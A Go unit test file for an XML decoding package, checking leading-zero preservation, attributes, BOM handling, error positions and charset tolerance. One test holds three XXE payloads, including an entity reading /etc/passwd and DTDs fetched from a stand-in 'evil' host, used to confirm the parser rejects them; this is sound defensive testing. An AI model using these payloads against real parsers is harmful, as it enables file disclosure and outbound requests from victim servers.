package xmltree_test

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/cstorehq/backoffice/pkg/naxml/xmltree"
)

// TestDecode_PreservesLeadingZeros verifies codes are never numerically
// coerced. Invariant: "001" must survive parse untouched.
func TestDecode_PreservesLeadingZeros(t *testing.T) {
	root, err := xmltree.Decode([]byte(`<Dept><Code>001</Code><Active>Y</Active></Dept>`))
	require.NoError(t, err)

	assert.Equal(t, "001", root.Str("Code"))
	active, ok := root.Bool("Active")
	assert.True(t, ok)
	assert.True(t, active)
}

func TestDecode_AttributesDistinctFromText(t *testing.T) {
	root, err := xmltree.Decode([]byte(`<Item Code="07"><Code>99</Code></Item>`))
	require.NoError(t, err)

	assert.Equal(t, "07", root.Attr("Code"))
	assert.Equal(t, "99", root.Str("Code"))
}

// TestDecode_RejectsDTD enforces the XXE hardening contract: any DOCTYPE,
// internal subset or not, fails the decode.
func TestDecode_RejectsDTD(t *testing.T) {
	payloads := []string{
		`<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`,
		`<?xml version="1.0"?><!DOCTYPE foo SYSTEM "http://evil/foo.dtd"><foo/>`,
		`<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil/p.dtd"> %p;]><r/>`,
	}
	for _, p := range payloads {
		_, err := xmltree.Decode([]byte(p))
		assert.ErrorIs(t, err, xmltree.ErrDTDForbidden, p)
	}
}

func TestDecode_MalformedReportsPosition(t *testing.T) {
	_, err := xmltree.Decode([]byte("<a>\n  <b></c>\n</a>"))
	require.Error(t, err)

	var syn *xmltree.SyntaxError
	require.ErrorAs(t, err, &syn)
	assert.Equal(t, 2, syn.Line)
	assert.Greater(t, syn.Column, 0)
}

func TestDecode_StripsBOM(t *testing.T) {
	data := append([]byte{0xEF, 0xBB, 0xBF}, []byte(`<a><b>x</b></a>`)...)
	root, err := xmltree.Decode(data)
	require.NoError(t, err)
	assert.Equal(t, "x", root.Str("b"))
}

func TestDecode_EmptyInput(t *testing.T) {
	_, err := xmltree.Decode([]byte("   \n"))
	assert.ErrorIs(t, err, xmltree.ErrEmptyInput)
}

// TestList_AlwaysSequence verifies repeating accessors return slices even
// for a single occurrence, and that spelling drift (ID/Id) is tolerated.
func TestList_AlwaysSequence(t *testing.T) {
	root, err := xmltree.Decode([]byte(
		`<Tx><TransactionId>42</TransactionId><LineItem><n>1</n></LineItem></Tx>`))
	require.NoError(t, err)

	assert.Equal(t, "42", root.Str("TransactionID", "TransactionId"))
	items := root.List("LineItem")
	require.Len(t, items, 1)
	assert.Equal(t, "1", items[0].Str("n"))
}

func TestFlatten_ForceList(t *testing.T) {
	root, err := xmltree.Decode([]byte(`<Doc><LineItem><n>1</n></LineItem><Note>x</Note></Doc>`))
	require.NoError(t, err)

	flat := root.Flatten(xmltree.Options{ForceList: []string{"LineItem"}}).(map[string]any)
	_, isList := flat["LineItem"].([]any)
	assert.True(t, isList, "single LineItem must still flatten to a sequence")
	_, isScalar := flat["Note"].(string)
	assert.True(t, isScalar)
}

func TestDecode_CharsetTolerance(t *testing.T) {
	root, err := xmltree.Decode([]byte(`<?xml version="1.0" encoding="ISO-8859-1"?><a><b>caf` + "\xe9" + `</b></a>`))
	require.NoError(t, err)
	assert.Equal(t, "café", root.Str("b"))
}
